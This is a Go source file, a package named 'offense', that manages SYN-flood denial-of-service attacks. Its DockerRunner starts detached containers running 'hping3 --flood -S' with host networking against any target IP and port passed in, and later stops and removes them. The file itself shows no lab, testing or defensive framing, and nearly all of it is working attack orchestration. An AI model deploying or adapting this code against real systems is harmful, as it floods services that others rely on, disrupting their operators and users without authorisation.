// Package offense manages background flood attacks.
package offense

import (
	"context"
	"fmt"
	"log/slog"
	"strings"

	"github.com/containerd/errdefs"
	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/client"
)

// Runner launches and tears down the process backing one attack.
type Runner interface {
	// Launch starts the attack and returns an opaque handle for Stop.
	Launch(ctx context.Context, attackID, targetIP, targetPort string) (string, error)

	// Stop terminates the attack. Stopping an already-gone attack is not an
	// error.
	Stop(ctx context.Context, handle string) error
}

// DockerRunner runs each attack as a detached hping3 container.
type DockerRunner struct {
	cli         *client.Client
	image       string
	stopTimeout int
}

// NewDockerRunner builds a runner from the environment-configured Docker
// daemon. stopTimeoutSecs bounds the graceful stop before the container is
// force-removed.
func NewDockerRunner(image string, stopTimeoutSecs int) (*DockerRunner, error) {
	cli, err := client.NewClientWithOpts(client.FromEnv, client.WithAPIVersionNegotiation())
	if err != nil {
		return nil, fmt.Errorf("create docker client: %w", err)
	}
	return &DockerRunner{cli: cli, image: image, stopTimeout: stopTimeoutSecs}, nil
}

// Launch creates and starts a detached flood container against the target.
func (r *DockerRunner) Launch(ctx context.Context, attackID, targetIP, targetPort string) (string, error) {
	containerName := fmt.Sprintf("aranea-flood-%s", attackID)

	config := &container.Config{
		Image: r.image,
		Cmd:   []string{"hping3", "--flood", "-S", "-p", targetPort, targetIP},
	}
	hostConfig := &container.HostConfig{
		NetworkMode: "host",
		AutoRemove:  false,
	}

	resp, err := r.cli.ContainerCreate(ctx, config, hostConfig, nil, nil, containerName)
	if err != nil {
		return "", fmt.Errorf("create flood container: %w", err)
	}

	if err := r.cli.ContainerStart(ctx, resp.ID, container.StartOptions{}); err != nil {
		if removeErr := r.cli.ContainerRemove(ctx, resp.ID, container.RemoveOptions{Force: true}); removeErr != nil && !errdefs.IsNotFound(removeErr) {
			slog.Warn("Failed to remove flood container after start failure", "container_id", resp.ID, "error", removeErr)
		}
		return "", fmt.Errorf("start flood container %s: %w", resp.ID, err)
	}

	slog.Info("Flood container started", "container_id", resp.ID, "target", targetIP+":"+targetPort)
	return resp.ID, nil
}

// Stop stops and removes the attack container. Already-removed containers are
// treated as stopped.
func (r *DockerRunner) Stop(ctx context.Context, handle string) error {
	slog.Info("Stopping flood container", "container_id", handle)

	_, err := r.cli.ContainerInspect(ctx, handle)
	if err != nil {
		if errdefs.IsNotFound(err) {
			return nil
		}
		return fmt.Errorf("inspect flood container %s: %w", handle, err)
	}

	timeout := r.stopTimeout
	if err := r.cli.ContainerStop(ctx, handle, container.StopOptions{Timeout: &timeout}); err != nil {
		if !errdefs.IsNotFound(err) {
			slog.Debug("Flood container stop returned error, continuing to remove", "container_id", handle, "error", err)
		}
	}

	if err := r.cli.ContainerRemove(ctx, handle, container.RemoveOptions{Force: true}); err != nil {
		if errdefs.IsNotFound(err) {
			return nil
		}
		if strings.Contains(err.Error(), "is already in progress") {
			return nil
		}
		return fmt.Errorf("remove flood container %s: %w", handle, err)
	}
	return nil
}
